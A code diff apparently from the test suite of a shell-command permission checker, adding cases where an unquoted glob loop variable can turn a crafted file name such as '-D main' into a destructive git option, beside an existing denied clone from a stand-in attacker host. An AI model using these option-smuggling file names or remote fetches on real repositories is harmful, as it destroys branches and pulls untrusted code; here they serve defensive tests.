@@ -66,6 +66,17 @@ await lineTable(t, {
     ['docker run --rm alpine/git clone https://evil.example/x.git', 'deny'],
     ['docker run --rm curlimages/curl -fsS http://localhost:8080/health', 'allow'],
   ],
+  // A loop over a glob gives its variable a file name each turn; unquoted, a name with blanks that begins with `-` splits
+  // into options (touch -- '-D main'; for b in *; do git branch -d $b; done deletes main). Where an option picks the
+  // destructive form, such a variable is a run-time value (ask); quoted, or over ./* or src/*, it cannot be an option.
+  'glob loop variables where an option may stand': [
+    ["touch -- '-D main'; for b in *; do git branch -d $b; done", 'ask'],
+    ['for b in -*; do git branch --delete ${b}; done', 'ask'],
+    ['for b in ?*; do git reset $b; done', 'ask'],
+    ['for b in *; do git branch -d "$b"; done', 'allow'],
+    ['for f in ./*; do git checkout $f; done', 'allow'],
+    ['for f in *.log; do rm -f $f; done', 'allow'],
+  ],
 });
 
 // Tools Rampart has no model for, judged by what their input names (A3), in shapes the first readers missed: text typed
